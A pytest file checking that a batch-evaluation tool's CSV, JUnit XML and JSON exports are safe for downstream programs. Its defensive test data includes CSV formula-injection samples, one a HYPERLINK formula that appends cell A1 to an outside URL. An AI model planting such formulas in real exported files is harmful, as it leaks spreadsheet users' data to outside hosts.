"""What the app and the CLI write for other programs is safe for them: CSV cells a spreadsheet
would run as formulas are neutralised, JUnit XML parses whatever a reply holds, and the JSON
report has no NaN or Infinity."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET

import pytest

from comet.core.errors import ErrorInfo
from comet.core.exports import FORMULA_STARTS, finite, safe_cell, safe_row
from comet.runs.batch.checks import Verdict
from comet.runs.batch.report import render, summary
from comet.runs.batch.runner import Result
from comet.runs.batch.suite import Case

FORMULAS = ["=HYPERLINK(\"https://example.com/?\"&A1)", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


def test_other_cells_and_numbers_are_left_as_they_are():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}
    for kept in ("Lisbon", " =1", "", "'=1", "a=b", "{\"x\": \"=1\"}"):
        assert safe_cell(kept) == kept
    assert [safe_cell(v) for v in (-3, -2.5, None, True)] == [-3, -2.5, None, True]
    assert safe_row(["=1", 2]) == ["'=1", 2] and safe_row({"a": "@x", "b": None}) == {"a": "'@x", "b": None}


def _result(number: int, text: str, **fields) -> Result:
    case = Case(number, {"country": text})
    return Result(case, 0, "Gemini native · gemini-2.5-flash", text, fields.pop("verdicts", ()), fields.pop("error", None),
                  **{"latency_ms": 12.0, **fields})


def _report(fmt: str, results: list[Result]) -> str:
    return render(fmt, "=suite", results, summary(results, len(results), 1, 50.0), ["Gemini native · gemini-2.5-flash"])


def test_the_batch_csv_neutralises_every_formula_cell():
    failing = Verdict("contains", False, "the reply does not contain 'x'")
    results = [_result(i, text, verdicts=(failing,)) for i, text in enumerate(FORMULAS, start=1)]
    results.append(_result(len(FORMULAS) + 1, "", error=ErrorInfo(kind="server", message="=bad")))
    rows = list(csv.DictReader(io.StringIO(_report("csv", results))))
    assert [row["text"] for row in rows[:-1]] == ["'" + text for text in FORMULAS]
    assert not [cell for row in rows for cell in row.values() if cell.startswith(FORMULA_STARTS)]


def test_junit_parses_whatever_control_characters_a_reply_holds():
    nasty = "".join(chr(c) for c in range(32)) + "<&>\ud83d\uffff]]>"
    results = [_result(1, nasty, verdicts=(Verdict("regex", False, f"no {nasty}"),)),
               _result(2, nasty, error=ErrorInfo(kind="server", message=nasty))]
    root = ET.fromstring(_report("junit", results).encode("utf-8"))
    failure, error = root.find(".//failure"), root.find(".//error")
    assert failure.text.startswith("\\x00\\x01") and "\t\n" in failure.text and "<&>\ufffd\\uffff]]>" in failure.text
    assert "\\x1b" in failure.get("message") and "\\x1f" in root.find(".//testcase").get("name")
    assert error.text.startswith("\\x00") and error.get("type") == "server"


def test_the_json_report_has_no_nan_or_infinity():
    results = [_result(1, "ok", cost_usd=float("nan"), ttft_ms=float("inf"), latency_ms=float("-inf"))]
    text = _report("json", results)

    def refuse(constant):
        raise AssertionError(f"{constant} in the report")

    got = json.loads(text, parse_constant=refuse)["results"][0]
    assert (got["cost_usd"], got["ttft_ms"], got["latency_ms"]) == (None, None, None)
    assert finite({"a": [1.5, float("nan")], "b": (float("inf"),)}) == {"a": [1.5, None], "b": [None]}
